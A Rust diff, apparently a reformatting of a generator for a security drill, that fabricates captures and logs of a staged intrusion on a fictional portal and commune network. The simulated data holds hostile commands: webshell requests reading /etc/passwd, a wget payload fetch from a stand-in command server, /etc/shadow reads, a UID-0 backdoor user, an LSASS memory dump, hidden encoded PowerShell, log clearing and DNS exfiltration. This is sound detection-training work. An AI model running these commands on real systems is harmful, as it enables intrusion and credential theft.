@@ -19,7 +19,7 @@ use super::messages::{
 use super::wire::{Capture, Ending, Peer};
 
 /// How long the attack lasts, from its first packet to its last.
-pub const LENGTH: Duration = Duration::from_mins(14);
+pub(crate) const LENGTH: Duration = Duration::from_mins(14);
 
 const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
 const COMMAND_SERVER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 99);
@@ -32,21 +32,21 @@ const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko
 
 /// What the drill sends: two captures and the logs of two places.
 #[derive(Debug, Default)]
-pub struct Artifacts {
+pub(crate) struct Artifacts {
     /// Before the public-service portal.
-    pub portal: Capture,
+    pub(crate) portal: Capture,
     /// At the commune's gateway.
-    pub commune: Capture,
+    pub(crate) commune: Capture,
     /// Lines of the portal's web server, in the combined format.
-    pub nginx: Vec<String>,
+    pub(crate) nginx: Vec<String>,
     /// Lines of the portal's syslog (sshd, sudo) and audit daemon.
-    pub linux: Vec<String>,
+    pub(crate) linux: Vec<String>,
     /// Events of the commune's workstation and file server as Winlogbeat sends them, one JSON object each.
-    pub windows: Vec<String>,
+    pub(crate) windows: Vec<String>,
 }
 
 /// Makes everything for an attack that begins at `start`.
-pub fn make(start: Timestamp, seed: u64) -> Result<Artifacts> {
+pub(crate) fn make(start: Timestamp, seed: u64) -> Result<Artifacts> {
     let mut drill = Drill { out: Artifacts::default(), random: StdRng::seed_from_u64(seed), start };
     drill.ordinary_traffic();
     drill.scan();
@@ -149,7 +149,15 @@ impl Drill {
             let client = Peer::new(ATTACKER, self.client_port());
             self.out.portal.conversation(at, client, Peer::new(PORTAL, port), &[], ending);
         }
-        let paths = ["/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/", "/backup.zip", "/admin/", "/server-status"];
+        let paths = [
+            "/.git/config",
+            "/.env",
+            "/wp-login.php",
+            "/phpmyadmin/",
+            "/backup.zip",
+            "/admin/",
+            "/server-status",
+        ];
         for index in 0..60_u64 {
             let path = paths.get(usize::try_from(index).unwrap_or(0) % paths.len()).copied().unwrap_or("/");
             let at = self.at(90).plus(Duration::from_millis(index * 300));
@@ -176,7 +184,8 @@ impl Drill {
 
     /// Stage 3: commands through the uploaded script; the audit daemon sees the web server start a shell.
     fn webshell(&mut self) {
-        let commands = ["id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.99/a.sh%20-O%20/tmp/a.sh"];
+        let commands =
+            ["id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.99/a.sh%20-O%20/tmp/a.sh"];
         for (index, command) in (0_u64..).zip(commands) {
             let at = self.at(190 + index * 9);
             let target = format!("/uploads/anh-dai-dien.php?cmd={command}");
@@ -185,7 +194,13 @@ impl Drill {
             self.audit_exec(at, 300 + index, 33, "/usr/bin/dash", &["sh", "-c", &plain]);
         }
         let at = self.at(240);
-        self.audit_exec(at, 320, 33, "/usr/bin/wget", &["wget", "http://203.0.113.99/a.sh", "-O", "/tmp/a.sh"]);
+        self.audit_exec(
+            at,
+            320,
+            33,
+            "/usr/bin/wget",
+            &["wget", "http://203.0.113.99/a.sh", "-O", "/tmp/a.sh"],
+        );
     }
 
     /// The SYSCALL and EXECVE records of one started program.
@@ -196,24 +211,53 @@ impl Drill {
             "type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=812 pid={} auid=4294967295 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm=\"{comm}\" exe=\"{exe}\" key=\"exec\"",
             4_000 + serial
         ));
-        let list: Vec<String> = (0..).zip(args).map(|(index, arg)| format!("a{index}={}", audit_text(arg))).collect();
-        self.out.linux.push(format!("type=EXECVE msg=audit({stamp}): argc={} {}", args.len(), list.join(" ")));
+        let list: Vec<String> =
+            (0..).zip(args).map(|(index, arg)| format!("a{index}={}", audit_text(arg))).collect();
+        self.out.linux.push(format!(
+            "type=EXECVE msg=audit({stamp}): argc={} {}",
+            args.len(),
+            list.join(" ")
+        ));
     }
 
     /// Stage 4a: passwords of the portal's SSH, until one fits; then root by sudo.
     fn password_guessing(&mut self) {
         for index in 0..24_u64 {
             let at = self.at(300 + index * 2);
-            let user = ["root", "admin", "quantri"].get(usize::try_from(index % 3).unwrap_or(0)).copied().unwrap_or("root");
+            let user = ["root", "admin", "quantri"]
+                .get(usize::try_from(index % 3).unwrap_or(0))
+                .copied()
+                .unwrap_or("root");
             let port = self.client_port();
-            self.syslog(at, &format!("sshd[{}]: Failed password for {user} from {ATTACKER} port {port} ssh2", 5_000 + index));
-            let turns = [(false, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n".to_vec()), (true, b"SSH-2.0-libssh2_1.11.0\r\n".to_vec())];
-            self.out.portal.conversation(at, Peer::new(ATTACKER, port), Peer::new(PORTAL, 22), &turns, Ending::Closed);
+            self.syslog(
+                at,
+                &format!(
+                    "sshd[{}]: Failed password for {user} from {ATTACKER} port {port} ssh2",
+                    5_000 + index
+                ),
+            );
+            let turns = [
+                (false, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n".to_vec()),
+                (true, b"SSH-2.0-libssh2_1.11.0\r\n".to_vec()),
+            ];
+            self.out.portal.conversation(
+                at,
+                Peer::new(ATTACKER, port),
+                Peer::new(PORTAL, 22),
+                &turns,
+                Ending::Closed,
+            );
         }
         let at = self.at(352);
-        self.syslog(at, &format!("sshd[5100]: Accepted password for quantri from {ATTACKER} port 51514 ssh2"));
+        self.syslog(
+            at,
+            &format!("sshd[5100]: Accepted password for quantri from {ATTACKER} port 51514 ssh2"),
+        );
         let at = self.at(360);
-        self.syslog(at, "sudo[5123]:  quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/bin/cat /etc/shadow");
+        self.syslog(
+            at,
+            "sudo[5123]:  quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/bin/cat /etc/shadow",
+        );
         let at = self.at(366);
         self.syslog(at, "sudo[5130]:  quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -m hotro");
     }
@@ -225,22 +269,28 @@ impl Drill {
     /// Stage 4b: on the commune's workstation the memory of LSASS is written to a file.
     fn credential_theft(&mut self) {
         let at = self.at(420);
-        let command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\ls.dmp full";
+        let command =
+            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\ls.dmp full";
         self.process_created(
             at,
             ("C:\\Windows\\System32\\rundll32.exe", command),
             ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"),
         );
         let at = self.at(421);
-        self.sysmon(at, 10, "PC-VANTHU01", &json!({
-            "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
-            "SourceProcessId": "4412",
-            "TargetImage": "C:\\Windows\\System32\\lsass.exe",
-            "TargetProcessId": "652",
-            "GrantedAccess": "0x1fffff",
-            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+22b0",
-            "SourceUser": "DIENTAP\\vanthu",
-        }));
+        self.sysmon(
+            at,
+            10,
+            "PC-VANTHU01",
+            &json!({
+                "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
+                "SourceProcessId": "4412",
+                "TargetImage": "C:\\Windows\\System32\\lsass.exe",
+                "TargetProcessId": "652",
+                "GrantedAccess": "0x1fffff",
+                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+22b0",
+                "SourceUser": "DIENTAP\\vanthu",
+            }),
+        );
         let at = self.at(440);
         let command = "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
         self.process_created(
@@ -250,23 +300,39 @@ impl Drill {
         );
     }
 
-    fn process_created(&mut self, at: Timestamp, (image, command): (&str, &str), (parent, parent_command): (&str, &str)) {
-        self.sysmon(at, 1, "PC-VANTHU01", &json!({
-            "Image": image,
-            "CommandLine": command,
-            "ParentImage": parent,
-            "ParentCommandLine": parent_command,
-            "ProcessId": "4412",
-            "ParentProcessId": "3120",
-            "User": "DIENTAP\\vanthu",
-            "IntegrityLevel": "High",
-            "CurrentDirectory": "C:\\Users\\vanthu\\",
-            "OriginalFileName": image.rsplit('\\').next().unwrap_or_default().to_uppercase(),
-        }));
+    fn process_created(
+        &mut self,
+        at: Timestamp,
+        (image, command): (&str, &str),
+        (parent, parent_command): (&str, &str),
+    ) {
+        self.sysmon(
+            at,
+            1,
+            "PC-VANTHU01",
+            &json!({
+                "Image": image,
+                "CommandLine": command,
+                "ParentImage": parent,
+                "ParentCommandLine": parent_command,
+                "ProcessId": "4412",
+                "ParentProcessId": "3120",
+                "User": "DIENTAP\\vanthu",
+                "IntegrityLevel": "High",
+                "CurrentDirectory": "C:\\Users\\vanthu\\",
+                "OriginalFileName": image.rsplit('\\').next().unwrap_or_default().to_uppercase(),
+            }),
+        );
     }
 
     fn sysmon(&mut self, at: Timestamp, event_id: u32, computer: &str, data: &serde_json::Value) {
-        self.windows_event(at, ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"), event_id, computer, data);
+        self.windows_event(
+            at,
+            ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"),
+            event_id,
+            computer,
+            data,
+        );
     }
 
     fn windows_event(
@@ -309,20 +375,32 @@ impl Drill {
             self.out.commune.conversation(at, client, Peer::new(FILE_SERVER, 445), &turns, Ending::Closed);
         }
         let at = self.at(508);
-        self.windows_event(at, ("Security", "Microsoft-Windows-Security-Auditing"), 4624, "SRV-TEP01", &json!({
-            "TargetUserName": "quantri", "TargetDomainName": "DIENTAP", "LogonType": "3",
-            "IpAddress": WORKSTATION.to_string(), "IpPort": "50212", "AuthenticationPackageName": "NTLM",
-            "WorkstationName": "PC-VANTHU01",
-        }));
+        self.windows_event(
+            at,
+            ("Security", "Microsoft-Windows-Security-Auditing"),
+            4624,
+            "SRV-TEP01",
+            &json!({
+                "TargetUserName": "quantri", "TargetDomainName": "DIENTAP", "LogonType": "3",
+                "IpAddress": WORKSTATION.to_string(), "IpPort": "50212", "AuthenticationPackageName": "NTLM",
+                "WorkstationName": "PC-VANTHU01",
+            }),
+        );
         let at = self.at(510);
         self.windows_event(at, ("System", "Service Control Manager"), 7045, "SRV-TEP01", &json!({
             "ServiceName": "KxQzTbWn", "ImagePath": "%COMSPEC% /C echo whoami ^> \\\\127.0.0.1\\C$\\__out > %TEMP%\\x.bat & %COMSPEC% /C %TEMP%\\x.bat",
             "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
         }));
         let at = self.at(530);
-        self.windows_event(at, ("Security", "Microsoft-Windows-Eventlog"), 1102, "SRV-TEP01", &json!({
-            "SubjectUserName": "quantri", "SubjectDomainName": "DIENTAP",
-        }));
+        self.windows_event(
+            at,
+            ("Security", "Microsoft-Windows-Eventlog"),
+            1102,
+            "SRV-TEP01",
+            &json!({
+                "SubjectUserName": "quantri", "SubjectDomainName": "DIENTAP",
+            }),
+        );
     }
 
     /// Stage 6: a call to the command server every minute, with a certificate that signs itself.
@@ -333,7 +411,13 @@ impl Drill {
             let at = self.jitter(at, 900);
             let client = Peer::new(WORKSTATION, self.client_port());
             let turns = tls_conversation("", &certificate, &[310, 190]);
-            self.out.commune.conversation(at, client, Peer::new(COMMAND_SERVER, 8_443), &turns, Ending::Closed);
+            self.out.commune.conversation(
+                at,
+                client,
+                Peer::new(COMMAND_SERVER, 8_443),
+                &turns,
+                Ending::Closed,
+            );
         }
         Ok(())
     }
@@ -342,7 +426,9 @@ impl Drill {
     fn dns_exfiltration(&mut self) {
         for index in 0..120_u64 {
             let at = self.at(780).plus(Duration::from_millis(index * 350));
-            let chunk: String = (0..56).map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz234567"[self.random.random_range(0..32)])).collect();
+            let chunk: String = (0..56)
+                .map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz234567"[self.random.random_range(0..32)]))
+                .collect();
             let name = format!("{index:04x}.{chunk}.t.cdn-sync.example");
             let id = self.random.random();
             let client = Peer::new(WORKSTATION, self.client_port());
@@ -378,7 +464,12 @@ fn rfc5424_body(text: &str) -> String {
 fn common_log_time(at: Timestamp) -> String {
     jiff::Timestamp::from_second(at.seconds()).map_or_else(
         |_| at.to_string(),
-        |moment| moment.to_zoned(jiff::tz::TimeZone::fixed(jiff::tz::offset(7))).strftime("%d/%b/%Y:%H:%M:%S %z").to_string(),
+        |moment| {
+            moment
+                .to_zoned(jiff::tz::TimeZone::fixed(jiff::tz::offset(7)))
+                .strftime("%d/%b/%Y:%H:%M:%S %z")
+                .to_string()
+        },
     )
 }
 
